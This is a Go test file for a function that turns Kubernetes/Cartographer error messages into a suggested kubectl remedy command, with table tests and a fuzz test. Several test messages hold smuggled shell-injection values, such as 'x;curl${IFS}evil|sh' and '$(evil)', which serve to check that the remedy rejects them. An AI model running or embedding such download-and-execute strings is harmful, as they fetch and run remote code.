package tree

import (
	"strings"
	"testing"
)

func TestRemedies(t *testing.T) {
	t.Parallel()
	show := "kubectl describe workloads.carto.run cart -n shop"
	tr := &Tree{Owner: OwnerNode{Ref: Ref{Kind: "Workload", Resource: "workloads.carto.run", Namespace: "shop", Name: "cart"}}}
	for _, tc := range []struct{ reason, code, message, want string }{
		{
			"a role for the account, where the object is", "TemplateRejectedByAPIServer",
			`deployments.apps is forbidden: User "system:serviceaccount:ops:stamper" cannot create resource "deployments" in API group "apps" in the namespace "shop"`,
			"kubectl create role carto-stamper-deployments --verb=get,list,create,patch,delete --resource=deployments.apps -n shop && kubectl create rolebinding carto-stamper-deployments --role=carto-stamper-deployments --serviceaccount=ops:stamper -n shop",
		},
		{
			"the core group has no name", "TemplateRejectedByAPIServer",
			`configmaps is forbidden: User "system:serviceaccount:shop:a" cannot patch resource "configmaps" in API group "" in the namespace "shop"`,
			"kubectl create role carto-a-configmaps --verb=get,list,create,patch,delete --resource=configmaps -n shop && kubectl create rolebinding carto-a-configmaps --role=carto-a-configmaps --serviceaccount=shop:a -n shop",
		},
		{"what a role of a namespace can not allow", "TemplateRejectedByAPIServer", `User "system:serviceaccount:shop:a" cannot create resource "nodes" in API group "" at the cluster scope`, show},
		{"a group of which nothing is served", "TemplateRejectedByAPIServer", `no matches for kind "Oven" in version "nowhere.example/v1"`, "kubectl api-resources --api-group=nowhere.example"},
		{"a kind that the core group does not have", "TemplateRejectedByAPIServer", `no matches for kind "Podd" in version "v1"`, `kubectl api-resources --api-group=""`},
		{
			"the agent's words", "TemplateRejectedByAPIServer", "cannot apply Deployment.apps shop/cart for resource run of X as service account a/b: deployments.apps shop/cart exists and is controlled by HelmRelease cart; give",
			"kubectl get deployment.apps cart -n shop -o yaml",
		},
		{
			"the API server's words", "TemplateRejectedByAPIServer",
			`cannot apply ConfigMap shop/cart for resource x: ConfigMap "cart" is invalid: metadata.ownerReferences: Invalid value: [...]: Only one reference can have Controller set to true. Found "true" in references for ConfigMap/boss and Workload/cart`,
			"kubectl get configmap cart -n shop -o yaml",
		},
		{"an account that does not exist", "ServiceAccountError", "cannot act as service account shop/stamper: it does not exist; create it", "kubectl create serviceaccount stamper -n shop"},
		{"an account that is no name", "ServiceAccountError", "cannot act as service account shop/x;curl${IFS}evil|sh: it does not exist", show},
		{"a version that is none", "TemplateRejectedByAPIServer", `no matches for kind "Oven" in version "a;curl evil|sh/v1"`, show},
		{"a role that is no name", "TemplateRejectedByAPIServer", `User "system:serviceaccount:shop:$(evil)" cannot create resource "pods" in API group "" in the namespace "shop"`, show},
		{"an account that is not named", "ServiceAccountError", "no idea", show},
		{"anything else", "UnknownError", "no idea", show},
	} {
		c := &RootCause{Reason: tc.code, Message: tc.message}
		if got := c.remedy(tr, nil, show); got != tc.want {
			t.Errorf("%s:\n got %s\nwant %s", tc.reason, got, tc.want)
		}
	}
}

// FuzzRemedy: messages are texts of others.
func FuzzRemedy(f *testing.F) {
	f.Add("ServiceAccountError", "service account a/b: x")
	f.Fuzz(func(t *testing.T, reason, message string) {
		c := &RootCause{Reason: reason, Message: message}
		next := c.remedy(&Tree{}, &Step{}, "show")
		if next == "" {
			t.Errorf("%q has no next command", message)
		}
		if strings.ContainsAny(strings.Replace(next, " && ", "", 1), "&;|`$(){}<>*?!\\\n\x1b") {
			t.Errorf("%q becomes %q", message, next)
		}
	})
}
